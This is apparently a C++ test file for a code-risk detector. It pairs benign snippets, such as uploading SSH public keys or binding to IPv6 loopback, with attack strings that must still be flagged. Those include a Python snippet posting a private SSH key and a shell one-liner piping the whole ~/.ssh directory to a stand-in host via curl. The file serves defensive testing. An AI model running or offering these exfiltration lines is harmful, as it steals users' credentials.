// Classes of false alarms found on real code and benign programs (issue 14,
// fifth round), each with the attack next to it that must stay caught.
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {


TEST(RealCodeFalseAlarms, PublicKeysAreNotCredentials) {
  const Case cases[] = {
      {"a public key uploaded to GitHub's API", L,
       "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\n"
       "key = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read().strip()\n"
       "requests.post('https://api.github.com/user/keys', json={'title': 'laptop', 'key': key},\n"
       "              headers={'Authorization': 'token ' + token}, timeout=10)\n",
       nullptr},
      {"a public key posted by curl", L,
       "curl -s -H \"Authorization: token $GITLAB_TOKEN\" --data-urlencode \"key=$(cat ~/.ssh/id_rsa.pub)\" "
       "https://gitlab.example.com/api/v4/user/keys\n",
       nullptr, SH},
      {"the private key next to it is still theft", B,
       "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"
       "requests.post('https://api.github.com/user/keys', json={'key': key}, timeout=10)\n",
       "EXFILTRATION"},
      {"the whole .ssh directory is still theft", B,
       "tar czf - ~/.ssh | curl -s --data-binary @- https://f.example.org/u\n", "EXFILTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

TEST(RealCodeFalseAlarms, LoopbackTerminalsAndLegacyTemp) {
  const Case cases[] = {
      {"IPv6 loopback bind (urllib3, test helpers)", L,
       "import socket\ns = socket.socket(socket.AF_INET6)\ns.bind(('::1', 0))\ns.listen()\n", nullptr},
      {"IPv6 any-address bind is still all interfaces", M,
       "import socket\ns = socket.socket(socket.AF_INET6)\ns.bind(('::', 8080))\ns.listen()\n", "LISTENS-ON-ALL-INTERFACES"},
      {"pseudo-terminals opened read-write (pty.py)", L,
       "import os\nfor x in 'pqrs':\n    fd = os.open('/dev/pty' + x + '0', os.O_RDWR)\n    os.close(fd)\n", nullptr},
      {"/usr/tmp is a temporary directory, not /usr", L,
       "import os\nname = os.path.join('/usr/tmp', 'probe' + str(os.getpid()))\nos.unlink(name)\n", nullptr},
      {"a write under /usr is still system modification", H, "open('/usr/local/bin/tool', 'w').write('x')\n",
       "SYSTEM-MODIFICATION"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
